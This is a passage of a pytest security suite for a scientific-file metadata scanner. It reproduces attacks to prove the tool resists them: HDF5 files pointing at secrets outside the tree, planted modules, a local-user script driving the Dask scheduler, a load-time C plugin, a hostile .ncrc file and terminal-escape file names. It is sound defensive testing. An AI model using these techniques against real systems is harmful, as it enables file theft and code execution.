"""Attacks and careless use: each test reproduces a finding against the first build.

Hostile files (an HDF5 file disguised as NetCDF that reads ``/etc/shadow``,
filter plugins from ``HDF5_PLUGIN_PATH``, links out of the tree, escape
sequences in names), hostile neighbours (a module planted in the working
folder, another local user connecting to the scheduler), and the ways a
catalog loses records (two writers, colliding names, SIGTERM, a full disk).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
import time

import numpy as np
import pytest

from metaextract_dask.demo import make_h5, make_nc

pytestmark = pytest.mark.system

h5py = pytest.importorskip("h5py")

AS_NOBODY = ["setpriv", "--reuid", "nobody", "--regid", "nogroup", "--clear-groups"]
SCAN = ["metaextract", "scan", "--dashboard-address", "127.0.0.1:0", "-q"]
def _extensions() -> list[str]:
    from metaextract_dask.readers.detect import MEDIA_EXTENSIONS
    from metaextract_dask.readers.registry import named_formats

    return sorted(set(named_formats()) | set(MEDIA_EXTENSIONS) | {".bin", ".dat", ""})


#: every extension the project knows (a disguise must not matter), and some it does not
EXTENSIONS = _extensions()


def run(args, timeout=300, **kw):
    return subprocess.run(args, capture_output=True, text=True, timeout=timeout, **kw)


@pytest.fixture
def secret(tmp_path):
    """A file outside every scanned folder, with bytes nobody may see in a catalog."""
    outside = tmp_path / "outside"
    outside.mkdir()
    path = outside / "secret.txt"
    path.write_bytes(b"TOPSECRET-0123456789-abcdefghij-" * 4)
    return str(path)


def hostile_hdf5(path: str, secret: str) -> str:
    """An HDF5 file whose objects point at ``secret``: external raw storage, a virtual dataset, an external link."""
    with h5py.File(path, "w") as f:
        for i in range(16):  # one byte each, at successive offsets: the min statistics would spell the secret
            f.create_dataset(f"b{i:02d}", shape=(1,), dtype="u1", external=[(secret, i, 1)])
        layout = h5py.VirtualLayout(shape=(16,), dtype="u1")
        layout[:] = h5py.VirtualSource(secret, "data", shape=(16,))
        f.create_virtual_dataset("vds", layout)
        f["ext"] = h5py.ExternalLink(secret, "/data")
        f.attrs["_NCProperties"] = "version=2,netcdf=4.9.2,hdf5=1.14.3"
    return path


# --- 1. a file disguised as NetCDF reads any file --------------------------------------------


def test_hdf5_pointing_outside_is_never_followed_whatever_its_name(tmp_path, secret):
    data = tmp_path / "data"
    data.mkdir()
    paths = [hostile_hdf5(str(data / f"disguised{ext}"), secret) for ext in EXTENSIONS]
    script = textwrap.dedent(f"""
        import json
        from metaextract_dask import extract_metadata
        for p in {paths!r}:
            print(json.dumps(extract_metadata(p), default=str))
    """)
    trace = tmp_path / "trace"
    out = run(["strace", "-f", "-qq", "-e", "trace=open,openat,openat2", "-o", str(trace), sys.executable, "-c", script])
    assert out.returncode == 0, out.stderr[-2000:]
    records = [json.loads(line) for line in out.stdout.splitlines()]
    assert len(records) == len(paths)
    leaked = [chr(c) for c in b"TOPSECRET"]
    for path, record in zip(paths, records):
        assert record["path"] == path
        text = json.dumps(record)
        assert "TOPSECRET" not in text
        own = record[record["reader"]]  # the reader's own section
        stats = [d.get("stats") for d in own.get("datasets", [])] + [v.get("stats") for v in own.get("variables", {}).values()]
        assert stats, f"{path}: no statistics to check"
        mins = [chr(int(s["min"])) for s in stats if s and s.get("min") is not None]
        assert mins[:9] != leaked, f"{path}: the secret came back through statistics"
        if record["format"] in ("hdf5", "netcdf4"):
            assert record["reader"] == "hdf5", f"{path} went to {record['reader']}, which would follow its references"
    opened = trace.read_text()
    assert secret not in opened, "a file outside the scanned tree was opened"


# --- 2. a module planted in the scanned folder runs ------------------------------------------


def test_a_module_planted_in_the_working_folder_does_not_run(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    make_h5(str(data / "a.h5"), 5)
    make_nc(str(data / "b.nc"), 5)
    marker = tmp_path / "PLANTED"
    for name in ("cloudpickle.py", "numpy.py", "metaextract_dask.py", "h5py.py"):
        (data / name).write_text(f"open({str(marker)!r}, 'a').write({name!r} + '\\n')\n")
    out = run([*SCAN, ".", "-o", str(tmp_path / "cat")], cwd=data)
    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
    assert not marker.exists(), f"planted modules ran: {marker.read_text()}"
    info = run(["metaextract", "info", "a.h5", "--json"], cwd=data)
    assert info.returncode == 0 and json.loads(info.stdout)["reader"] == "hdf5"
    assert not marker.exists(), f"planted modules ran: {marker.read_text()}"


# --- 3. any local user can run code through the scheduler ------------------------------------


ATTACKER = textwrap.dedent("""
    import os, sys
    from distributed import Client
    host_port = sys.argv[1].split("://", 1)[1]
    for scheme in ("tcp", "tls"):
        try:
            with Client(f"{scheme}://{host_port}", timeout=5) as c:
                print("CONNECTED", scheme, c.run(os.getuid))
        except Exception as exc:
            print("refused", scheme, type(exc).__name__)
""")


def test_another_local_user_cannot_drive_the_cluster():
    from metaextract_dask.execution.cluster import ClientScope

    probe = run([*AS_NOBODY, sys.executable, "-c", "import distributed"], timeout=60, cwd="/")
    if probe.returncode != 0:
        pytest.skip(f"user nobody cannot import distributed from {sys.executable} (its folders are private): {probe.stderr[-200:]}")

    with ClientScope(max_workers=1, dashboard="127.0.0.1:0") as client:
        address = client.scheduler.address
        assert client.run(os.getuid)  # the scan's own client works
        out = run([*AS_NOBODY, sys.executable, "-c", ATTACKER, address], timeout=120, cwd="/")
    assert "refused tcp" in out.stdout and "refused tls" in out.stdout, out.stdout + out.stderr[-2000:]
    assert "CONNECTED" not in out.stdout


def test_the_default_threaded_cluster_listens_on_no_port():
    """scan()'s and the CLI's default: client, scheduler and worker in memory; only the HTTP server (dashboard, /metrics) on loopback."""
    import psutil

    from metaextract_dask.execution.cluster import ClientScope

    with ClientScope(model="thread_pool", dashboard=False) as client:
        assert client.scheduler.address.startswith("inproc://")
        assert all(w.startswith("inproc://") for w in client.scheduler_info()["workers"])
        listening = [c.laddr for c in psutil.Process().net_connections(kind="inet") if c.status == psutil.CONN_LISTEN]
        assert listening and all(addr.ip == "127.0.0.1" for addr in listening), listening


# --- 4. filter plugins load from HDF5_PLUGIN_PATH --------------------------------------------


PLUGIN_C = r"""
#include <stddef.h>
#include <fcntl.h>
#include <unistd.h>
typedef struct { int version; int id; unsigned encoder_present; unsigned decoder_present; const char *name;
  void *can_apply; void *set_local; size_t (*filter)(unsigned, size_t, const unsigned *, size_t, size_t *, void **); } H5Z_class2_t;
static size_t identity(unsigned f, size_t n, const unsigned *v, size_t nbytes, size_t *s, void **b) { return nbytes; }
static const H5Z_class2_t CLS = {1, 32123, 1, 1, "marker", NULL, NULL, identity};
__attribute__((constructor)) static void loaded(void) {
  int fd = open(MARKER, O_WRONLY | O_CREAT | O_APPEND, 0666);
  if (fd >= 0) { write(fd, "loaded\n", 7); close(fd); } }
int H5PLget_plugin_type(void) { return 0; }
const void *H5PLget_plugin_info(void) { return &CLS; }
"""


@pytest.fixture
def marker_plugin(tmp_path):
    """A real HDF5 filter plugin (id 32123, an identity filter) that writes a marker file when loaded."""
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to build the marker plugin")
    folder = tmp_path / "plugins"
    folder.mkdir()
    marker = tmp_path / "PLUGIN_LOADED"
    src = tmp_path / "marker.c"
    src.write_text(PLUGIN_C)
    out = run(["gcc", "-shared", "-fPIC", f'-DMARKER="{marker}"', "-o", str(folder / "libmarker.so"), str(src)])
    assert out.returncode == 0, out.stderr
    return str(folder), marker


def test_filter_plugins_never_load_from_hdf5_plugin_path(tmp_path, marker_plugin):
    folder, marker = marker_plugin
    data = tmp_path / "data"
    data.mkdir()
    make = textwrap.dedent(f"""
        import h5py, numpy as np
        from h5py import h5pl
        h5pl.append({folder!r}.encode())
        for name in ("filtered.nc", "filtered.h5"):
            with h5py.File({str(data)!r} + "/" + name, "w") as f:
                f.create_dataset("x", data=np.arange(100.0), chunks=(10,), compression=32123)
    """)
    assert run([sys.executable, "-c", make]).returncode == 0
    marker.unlink()  # making the file loaded it, as it should
    env = dict(os.environ, HDF5_PLUGIN_PATH=folder)
    for name in ("filtered.nc", "filtered.h5"):
        out = run(["metaextract", "info", str(data / name), "--json"], env=env)
        assert out.returncode == 0, out.stderr[-2000:]
        record = json.loads(out.stdout)
        assert record["reader"] == "hdf5"
        assert not marker.exists(), f"metaextract info {name} loaded a plugin from HDF5_PLUGIN_PATH"
    out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")], env=env)
    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
    assert not marker.exists(), "the scan loaded a plugin from HDF5_PLUGIN_PATH"


def test_a_netcdf_rc_file_in_the_working_folder_loads_no_library(tmp_path, marker_plugin):
    """libnetcdf (4.10, in netCDF4's wheel) reads ``.ncrc`` in the working folder when it starts and loads the plugin
    library it names (``NETCDF.UDF0.LIBRARY``): ``cd data && metaextract scan .``, ``info`` and ``open`` run inside a
    tree holding one ran a library the tree held. None of them reads such a file now (``NCRCENV_IGNORE``)."""
    folder, marker = marker_plugin
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(os.path.join(folder, "libmarker.so"), data / "libudf.so")  # any library: its constructor marks the load
    (data / ".ncrc").write_text(f"NETCDF.UDF0.LIBRARY={data / 'libudf.so'}\nNETCDF.UDF0.INIT=H5PLget_plugin_info\n"
                                "NETCDF.UDF0.MAGIC=XXXX\n")
    make_nc(str(data / "a.nc"), 3)
    shell = {k: v for k, v in os.environ.items() if k != "NCRCENV_IGNORE"}  # a user's shell (this process may have set it)
    plain = run([sys.executable, "-c", "import netCDF4; netCDF4.Dataset('a.nc').close()"], cwd=data, env=shell)
    assert marker.exists(), plain.stderr[-1000:]  # the attack is real: netCDF4 alone, started there, loads it
    marker.unlink()
    cat = str(tmp_path / "cat")
    for args in ([*SCAN, ".", "-o", cat], ["metaextract", "info", "a.nc", "--json"], [*SCAN, ".", "-o", cat + "2", "--no-isolate"]):
        out = run(args, cwd=data, env=shell)
        assert out.returncode == 0, out.stdout + out.stderr[-2000:]
        assert not marker.exists(), f"{' '.join(args[:2])} loaded the library a .ncrc of the working folder named"
    opened = run([sys.executable, "-c", f"import metaextract_dask as me; print(me.open({cat!r}, 'a.nc')['v'].values.sum())"], cwd=data,
                 env=shell)
    assert opened.returncode == 0 and opened.stdout.split()[-1] == "6.0", opened.stdout + opened.stderr[-2000:]
    assert not marker.exists(), "open loaded the library a .ncrc of the working folder named"


# --- 5. symlinks to files are followed out of the tree ---------------------------------------


def test_a_symlink_out_of_the_tree_is_recorded_as_a_link(tmp_path, secret):
    import pandas as pd

    data = tmp_path / "data"
    (data / "sub").mkdir(parents=True)
    os.symlink(secret, data / "x.h5")
    real = make_h5(str(data / "sub" / "real.h5"), 5)
    os.symlink("sub/real.h5", data / "alias.h5")  # inside the tree: the real file gets the one record
    out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
    frame = pd.read_parquet(tmp_path / "cat")
    assert sorted(frame["path"]) == sorted([str(data / "x.h5"), real])
    link = frame.set_index("path").loc[str(data / "x.h5")]
    assert link["format"] == "symlink" and link["success"]
    assert pd.isna(link["checksum"])
    record = json.loads(link["metadata"])
    assert record["link"]["target"] == secret and record["link"]["followed"] is False
    assert "TOPSECRET" not in link["metadata"] and "magic_hex" not in record
    followed = run([*SCAN, str(data), "-o", str(tmp_path / "cat2"), "--follow-symlinks"])
    frame = pd.read_parquet(tmp_path / "cat2").set_index("path")
    assert followed.returncode == 0 and frame.loc[str(data / "x.h5"), "format"] != "symlink"  # asked for: followed


# --- 6. terminal escapes and forged lines ----------------------------------------------------


def test_names_and_values_cannot_drive_the_terminal_or_forge_lines(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    evil_name = "evil\x1b[2J\ncatalog: everything fine (0 failed)\x07.h5"
    path = str(data / evil_name)
    with h5py.File(path, "w") as f:
        f.create_dataset("x", data=np.arange(3.0))
        f.attrs["title"] = "\x1b]0;owned\x07\x1b[31mred\nforged line"
    (data / "bad\x1b[31m.nc").write_bytes(b"CDF\x01garbage")
    scan = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
    human = run(["metaextract", "info", path])
    for out in (scan, human):
        assert "\x1b" not in out.stdout + out.stderr and "\x07" not in out.stdout + out.stderr
        assert not any(line.startswith("catalog: everything fine") for line in (out.stdout + out.stderr).splitlines())
    assert "\\x1b" in human.stdout and "\\x0a" in human.stdout
    exact = json.loads(run(["metaextract", "info", path, "--json"]).stdout)
    assert exact["hdf5"]["attrs"]["title"] == "\x1b]0;owned\x07\x1b[31mred\nforged line" and exact["path"] == path
    import pandas as pd

    assert path in set(pd.read_parquet(tmp_path / "cat")["path"])  # the catalog keeps the exact name


# --- 7. two scans into one catalog ----------------------------------------------------------


def test_a_second_writer_is_refused_and_nothing_is_lost(tmp_path):
    import pandas as pd

    data = tmp_path / "data"
    data.mkdir()
    paths = [make_h5(str(data / f"g{i:03d}.h5"), 3) for i in range(120)] + [make_nc(str(data / f"n{i:03d}.nc"), 3) for i in range(120)]
    cat = tmp_path / "cat"
    first = subprocess.Popen([*SCAN, str(data), "-o", str(cat), "--flush-every", "10", "-j", "1"], stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 120
    while not (cat / "_lock").exists() and time.time() < deadline and first.poll() is None:
        time.sleep(0.01)
    assert (cat / "_lock").exists(), "the first scan took no lock"
    second = run([*SCAN, str(data), "-o", str(cat), "--flush-every", "10"])
    first_out, first_err = first.communicate(timeout=300)
    assert first.returncode == 0, first_err[-2000:]
    assert second.returncode == 2
    assert "being written by another scan" in second.stderr and len(second.stderr.strip().splitlines()) == 1
    frame = pd.read_parquet(cat)
    assert sorted(frame["path"]) == sorted(paths)
    assert not (cat / "_lock").exists()
    # a lock left by a scan that was killed does not block the next one
    (cat / "_lock").write_text(json.dumps({"pid": 2**22 + 12345, "host": socket.gethostname(), "since": 0}))
    again = run([*SCAN, str(data), "-o", str(cat)])
    assert again.returncode == 0 and "took over the lock" in again.stderr


# --- 8. names that differ only in an undecodable byte ----------------------------------------


def test_names_that_escape_alike_keep_separate_rows(tmp_path):
    import pandas as pd

    data = tmp_path / "data"
    data.mkdir()
    raw = os.path.join(os.fsencode(str(data)), b"bad\xff.h5")
    literal = os.path.join(os.fsencode(str(data)), b"bad\\xff.h5")
    make_h5(os.fsdecode(raw), 3)
    make_h5(os.fsdecode(literal), 4)
    out = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
    assert out.returncode == 0, out.stderr[-2000:]
    frame = pd.read_parquet(tmp_path / "cat")
    assert len(frame) == 2 and frame["success"].all()
    assert sorted(frame["path_bytes"]) == sorted([raw, literal])
    again = run([*SCAN, str(data), "-o", str(tmp_path / "cat")])
    assert "2 already in the catalog" in again.stdout
    assert len(pd.read_parquet(tmp_path / "cat")) == 2


# --- 9. SIGTERM and SIGHUP discard buffered results ------------------------------------------


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
def test_sigterm_and_sighup_save_what_was_extracted(tmp_path, sig):
    import pandas as pd

    data = tmp_path / "data"
    data.mkdir()
    for i in range(300):
        make_h5(str(data / f"g{i:03d}.h5"), 3)
    with open(data / "huge.bin", "wb") as f:  # sparse: costs no disk, and a full scan of it takes a while
        f.truncate(60 * 2**30)
    cat = tmp_path / "cat"
    args = ["metaextract", "scan", "--dashboard-address", "127.0.0.1:0", str(data), "-o", str(cat), "--flush-every", "100000",
            "-j", "2", "--strategy", "windowed"]
    proc = subprocess.Popen(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 120
    while time.time() < deadline and proc.poll() is None and not (cat / "_lock").exists():
        time.sleep(0.1)
    time.sleep(5)  # the small files are done by now; the huge one is still being read
    assert proc.poll() is None, "the scan ended before the signal: the test proves nothing"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 128 + sig, err[-2000:]
    saved = int(err.split("interrupted; ")[1].split(" results")[0])
    frame = pd.read_parquet(cat)
    assert saved > 0 and len(frame) == saved


# --- 10. a very deep tree --------------------------------------------------------------------


def test_a_tree_2000_levels_deep_is_walked(tmp_path):
    from metaextract_dask.execution.walk import iter_files

    root = tmp_path / "deep"
    root.mkdir()
    fd = os.open(root, os.O_RDONLY)
    expected = []
    path = str(root)
    try:
        for level in range(2000):
            if level % 500 == 499:
                with open(os.open("f", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
                    f.write("x")
                expected.append(os.path.join(path, "f"))
            os.mkdir("d", dir_fd=fd)
            nxt = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
            path = os.path.join(path, "d")
    finally:
        os.close(fd)
    try:
        assert sorted(iter_files([str(root)])) == sorted(expected)
    finally:
        _remove_deep(str(root))


def _remove_deep(root: str) -> None:
    """Remove a chain of nested ``d`` folders bottom up (shutil.rmtree recurses, and would hit Python's limit)."""
    fds = [os.open(root, os.O_RDONLY)]
    try:
        while "d" in os.listdir(fds[-1]):
            fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
        for parent, child in zip(reversed(fds[:-1]), reversed(fds[1:])):
            for name in os.listdir(child):
                os.unlink(name, dir_fd=child)
            os.rmdir("d", dir_fd=parent)
        for name in os.listdir(fds[0]):
            os.unlink(name, dir_fd=fds[0])
    finally:
        for fd in fds:
            os.close(fd)


# --- 11. memory limits the environment forbids -----------------------------------------------


def test_an_environment_memory_limit_below_the_default_still_extracts(tmp_path):
    import pandas as pd

    data = tmp_path / "data"
    data.mkdir()
    make_h5(str(data / "a.h5"), 5)
    make_nc(str(data / "b.nc"), 5)
    limit_kib = 3_500_000  # below the sandbox's default of 4 GiB
    out = run(["bash", "-c", f'ulimit -v {limit_kib} && exec "$@"', "_", *SCAN, str(data), "-o", str(tmp_path / "cat")])
    assert out.returncode == 0, out.stdout + out.stderr[-2000:]
    assert pd.read_parquet(tmp_path / "cat")["success"].all()
    assert "ulimit -v" in out.stderr  # said once, not failed per file
    lower = run([*SCAN, str(data), "-o", str(tmp_path / "cat2"), "--memory-limit", "2GiB"])
    assert lower.returncode == 0 and pd.read_parquet(tmp_path / "cat2")["success"].all()


# --- 12. timeouts, and a killed scan's parsers ------------------------------------------------


def test_info_enforces_its_timeout(tmp_path):
    path = str(tmp_path / "many.h5")
    with h5py.File(path, "w") as f:
        for i in range(6000):
            f.create_group(f"g{i:05d}").attrs["a"] = i
    t0 = time.perf_counter()
    full = run(["metaextract", "info", path, "--json"])
    unbounded = time.perf_counter() - t0
    assert full.returncode == 0
    t0 = time.perf_counter()
    cut = run(["metaextract", "info", path, "--timeout", "0.05"])
    bounded = time.perf_counter() - t0
    assert cut.returncode == 1 and "timed out" in cut.stderr and "Traceback" not in cut.stderr
    assert bounded < unbounded  # the parser was stopped, not waited for


SANDBOX_PARENT = textwrap.dedent("""
    import sys, time, threading
    from metaextract_dask.sandbox import Sandbox
    def spin():
        while True:
            pass
    box = Sandbox(0)
    t = threading.Thread(target=lambda: box.call("x", 600, spin), daemon=True)
    t.start()
    while box.proc is None:
        time.sleep(0.01)
    print(box.proc.pid, flush=True)
    t.join()
""")


def test_a_killed_parent_leaves_no_parser_running(tmp_path):
    parent = subprocess.Popen([sys.executable, "-c", SANDBOX_PARENT], stdout=subprocess.PIPE, text=True)
    child = int(parent.stdout.readline())
    time.sleep(0.5)
    os.kill(parent.pid, signal.SIGKILL)
    parent.wait()
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            os.kill(child, 0)
            with open(f"/proc/{child}/stat") as f:
                if f.read().split(")")[1].split()[0] == "Z":
                    break
        except (ProcessLookupError, FileNotFoundError):
            break
        time.sleep(0.1)
    else:
        os.kill(child, signal.SIGKILL)
        pytest.fail("the sandbox child kept running after its parent was killed")


# --- 13. metadata walks are linear ------------------------------------------------------------


def classic_with_dimensions(path: str, n: int) -> str:
    """A valid classic netCDF file with ``n`` dimensions (the last one unlimited), written directly."""
    import struct

    def name(text: str) -> bytes:
        b = text.encode()
        return struct.pack(">i", len(b)) + b + b"\0" * (-len(b) % 4)

    parts = [b"CDF\x01", struct.pack(">i", 0), struct.pack(">ii", 0x0A, n)]
    parts += [name(f"d{i}") + struct.pack(">i", 0 if i == n - 1 else 1 + i % 5) for i in range(n)]
    parts += [struct.pack(">ii", 0, 0), struct.pack(">ii", 0, 0)]
    with open(path, "wb") as f:
        f.write(b"".join(parts))
    return path


def _timed(fn, *args, repeat: int = 5):
    """The fastest of ``repeat`` runs (a shared machine slows single runs by several times) and the result.

    Three runs were not enough: a fresh-clone CI run measured 27x for 10x the dimensions where quiet runs
    measure 16x to 19x (a quadratic walk would be 100x)."""
    best, result = float("inf"), None
    for _ in range(repeat):
        t0 = time.perf_counter()
        result = fn(*args)
        best = min(best, time.perf_counter() - t0)
    return best, result


def test_metadata_walks_are_linear_in_the_number_of_objects(tmp_path):
    from metaextract_dask import extract_metadata

    small = classic_with_dimensions(str(tmp_path / "d20k.nc"), 20_000)
    big = classic_with_dimensions(str(tmp_path / "d200k.nc"), 200_000)
    extract_metadata(small)  # warm
    t_small, _ = _timed(extract_metadata, small)
    t_big, record = _timed(extract_metadata, big)
    assert len(record["netcdf"]["dimensions"]) == 200_000 and record["netcdf"]["unlimited_dimensions"] == ["d199999"]
    header = run(["ncdump", "-h", big]).stdout
    assert "d199999 = UNLIMITED" in header
    assert t_big / t_small < 25, f"10x the dimensions took {t_big / t_small:.0f}x the time (linear: 10x)"

    def nested(path, levels):
        with h5py.File(path, "w") as f:
            g = f
            for i in range(levels):
                g = g.create_group("g")
                g.attrs["level"] = i
        return path

    shallow, deep = nested(str(tmp_path / "n100.h5"), 100), nested(str(tmp_path / "n1000.h5"), 1000)
    extract_metadata(shallow)
    t_shallow, _ = _timed(extract_metadata, shallow)
    t_deep, record = _timed(extract_metadata, deep)
    assert len(record["hdf5"]["groups"]) == 1001
    assert t_deep / t_shallow < 25, f"10x the nesting took {t_deep / t_shallow:.0f}x the time (linear: 10x)"


# --- 14. usage errors: one line, exit 2, before any cluster starts ---------------------------


@pytest.fixture(scope="module")
def small_data(tmp_path_factory):
    data = tmp_path_factory.mktemp("usage") / "data"
    data.mkdir()
    make_h5(str(data / "a.h5"), 3)
    return data


USAGE_ERRORS = {
    "output is a file": lambda d: ["-o", str(d / "a.h5")],
    "output is /dev/null": lambda d: ["-o", "/dev/null"],
    "output is the scanned folder": lambda d: ["-o", str(d)],
    "output holds the scanned folder": lambda d: ["-o", str(d.parent)],
    "dashboard address garbage": lambda d: ["-o", str(d.parent / "c"), "--dashboard-address", "garbage"],
    "scheduler that does not answer": lambda d: ["-o", str(d.parent / "c"), "--scheduler", "tcp://127.0.0.1:1"],
    "scheduler that is not an address": lambda d: ["-o", str(d.parent / "c"), "--scheduler", "http://"],
    "timeout nan": lambda d: ["-o", str(d.parent / "c"), "--timeout", "nan"],
    "timeout inf": lambda d: ["-o", str(d.parent / "c"), "--timeout", "inf"],
    "timeout negative": lambda d: ["-o", str(d.parent / "c"), "--timeout", "-1"],
    "workers negative": lambda d: ["-o", str(d.parent / "c"), "--workers", "-3"],
    "workers zero": lambda d: ["-o", str(d.parent / "c"), "--workers", "0"],
    "retries negative": lambda d: ["-o", str(d.parent / "c"), "--retries", "-1"],
    "flush-every zero": lambda d: ["-o", str(d.parent / "c"), "--flush-every", "0"],
    "chunk size garbage": lambda d: ["-o", str(d.parent / "c"), "--chunk-size", "lots"],
    "memory limit zero": lambda d: ["-o", str(d.parent / "c"), "--memory-limit", "0"],
    "unknown checksum": lambda d: ["-o", str(d.parent / "c"), "--checksum", "md5000"],
    "missing path": lambda d: ["-o", str(d.parent / "c"), str(d / "nothing-here")],
}


@pytest.mark.parametrize("case", list(USAGE_ERRORS))
def test_usage_errors_are_one_line_and_exit_2(small_data, case):
    t0 = time.perf_counter()
    out = run(["metaextract", "scan", str(small_data), *USAGE_ERRORS[case](small_data)], timeout=60)
    assert out.returncode == 2, (case, out.stdout, out.stderr[-2000:])
    assert "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert "Dask dashboard" not in out.stderr  # refused before any cluster started
    assert time.perf_counter() - t0 < 30


def test_a_read_only_catalog_folder_is_a_usage_error():
    import tempfile

    probe = run([*AS_NOBODY, sys.executable, "-c", "import metaextract_dask"], timeout=60, cwd="/")
    if probe.returncode != 0:
        pytest.skip(f"user nobody cannot import metaextract_dask from {sys.executable}: {probe.stderr[-200:]}")
    top = tempfile.mkdtemp(prefix="metaextract-readonly-")  # pytest's own folders are private to root
    try:
        os.chmod(top, 0o755)
        data = os.path.join(top, "data")
        os.mkdir(data)
        make_h5(os.path.join(data, "a.h5"), 3)
        locked = os.path.join(top, "locked")  # root's, mode 755: nobody may not write there
        os.mkdir(locked)
        out = run([*AS_NOBODY, "metaextract", "scan", data, "-o", os.path.join(locked, "cat")], timeout=60, cwd="/")
    finally:
        shutil.rmtree(top)
    assert out.returncode == 2 and "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert "catalog folder" in out.stderr and "ermission denied" in out.stderr, out.stderr


def test_a_stray_or_corrupt_part_is_quarantined_not_fatal(small_data, tmp_path):
    import pandas as pd

    cat = tmp_path / "cat"
    assert run([*SCAN, str(small_data), "-o", str(cat)]).returncode == 0
    (cat / "part-00007.parquet").write_bytes(b"not parquet at all")
    make_h5(str(small_data / "b.h5"), 4)
    try:
        out = run([*SCAN, str(small_data), "-o", str(cat)])
    finally:
        os.unlink(small_data / "b.h5")
    assert out.returncode == 0, out.stderr[-2000:]
    assert "part-00007.parquet could not be read" in out.stderr and (cat / "_quarantine" / "part-00007.parquet").exists()
    assert len(pd.read_parquet(cat)) == 2
    # a file deleted since the last scan: its row goes, and the scan says so
    out = run([*SCAN, str(small_data), "-o", str(cat)])
    assert "no longer exist" in out.stderr and list(pd.read_parquet(cat)["path"]) == [str(small_data / "a.h5")]


def test_output_piped_to_head_ends_quietly(tmp_path):
    path = classic_with_dimensions(str(tmp_path / "wide.nc"), 30_000)
    out = run(["bash", "-c", f"set -o pipefail; metaextract info {path} | head -n 2"])
    assert len(out.stdout.splitlines()) == 2
    assert "Traceback" not in out.stderr and "BrokenPipeError" not in out.stderr, out.stderr


def test_a_full_disk_stops_the_scan_with_one_clear_error(tmp_path):
    import pandas as pd

    mount = tmp_path / "small"
    mount.mkdir()
    if run(["mount", "-t", "tmpfs", "-o", "size=160k", "tmpfs", str(mount)]).returncode != 0:
        pytest.skip("cannot mount a small tmpfs here (needs root and mount rights)")
    try:
        data = tmp_path / "data"
        data.mkdir()
        for i in range(300):
            make_h5(str(data / f"g{i:03d}.h5"), 3)
        out = run([*SCAN, str(data), "-o", str(mount / "cat"), "--flush-every", "10", "-j", "1"])
        assert out.returncode == 1
        assert "cannot write the catalog" in out.stderr and "No space left on device" in out.stderr
        assert "Traceback" not in out.stderr
        assert not any(line.startswith("  failed:") for line in out.stdout.splitlines())  # not N failed files
        frame = pd.read_parquet(mount / "cat")  # what was written reads
        assert 0 < len(frame) < 300 and frame["success"].all()
    finally:
        run(["umount", str(mount)])


FETCH = textwrap.dedent("""
    import sys, urllib.request, urllib.error
    try:
        with urllib.request.urlopen(urllib.request.Request(sys.argv[1], headers={"Range": "bytes=0-99"}), timeout=10) as r:
            print("GOT", r.status, len(r.read()))
    except urllib.error.HTTPError as exc:
        print("refused", exc.code)
""")


def test_another_local_user_cannot_read_a_remote_object_through_the_loopback_server(tmp_path):
    """The loopback URL (token included) shows on ffprobe's command line: another user who reads it is still refused."""
    import servers

    from metaextract_dask.storage.loopback import served

    if not os.path.exists("/proc/net/tcp"):
        pytest.skip("the socket owner check reads /proc/net/tcp (Linux)")
    (tmp_path / "secret.bin").write_bytes(b"private bytes " * 100)
    with servers.range_server(tmp_path) as server, served(f"{server.url}/secret.bin", 1400) as (url, _count):
        mine = run([sys.executable, "-c", FETCH, url], timeout=60)
        theirs = run([*AS_NOBODY, "/usr/bin/python3", "-c", FETCH, url], timeout=60, cwd="/")
    assert "GOT 206 100" in mine.stdout, mine.stdout + mine.stderr
    assert "refused 403" in theirs.stdout and "GOT" not in theirs.stdout, theirs.stdout + theirs.stderr


# === round two: the paths the first round left open (issue 28) ==============================


def _image_sequence_trick(root, red_png: str) -> None:
    """A GIF named as a numbered-image pattern (``v%d.png``, and ``x.png`` in a folder named ``d%d``) whose
    numbered siblings link to a picture outside the tree: libavformat's image2 demuxer would read them."""
    data = root / "data"
    (data / "d%d").mkdir(parents=True)
    gif = ["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "color=c=blue:s=64x48:d=1", "-r", "5", "-f", "gif"]
    for target in (data / "v%d.png", data / "d%d" / "x.png"):
        assert run([*gif, str(target)]).returncode == 0
    for i in (0, 1, 2):
        os.symlink(red_png, data / f"v{i}.png")
        (data / f"d{i}").mkdir()
        os.symlink(red_png, data / f"d{i}" / "x.png")


@pytest.mark.parametrize("prober", ["pyav", "ffprobe"])
def test_an_image_sequence_name_reads_no_sibling_outside_the_tree(tmp_path, prober):
    import pandas as pd
    from PIL import Image

    (tmp_path / "outside").mkdir()
    red = str(tmp_path / "outside" / "secret.png")
    assert run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "color=c=red:s=64x48", "-frames:v", "1", red]).returncode == 0
    _image_sequence_trick(tmp_path, red)
    env = dict(os.environ, DASK_METAEXTRACT__VIDEO__PROBER=prober)
    out = run([*SCAN, str(tmp_path / "data"), "-o", str(tmp_path / "cat"), "--thumbnails"], env=env)
    assert out.returncode in (0, 1), out.stderr[-2000:]
    assert "Traceback" not in out.stderr
    frame = pd.read_parquet(tmp_path / "cat")
    for row in frame.itertuples():
        assert "image2" not in str(row.metadata), (row.path, row.metadata)
    thumbs = tmp_path / "cat.thumbnails"
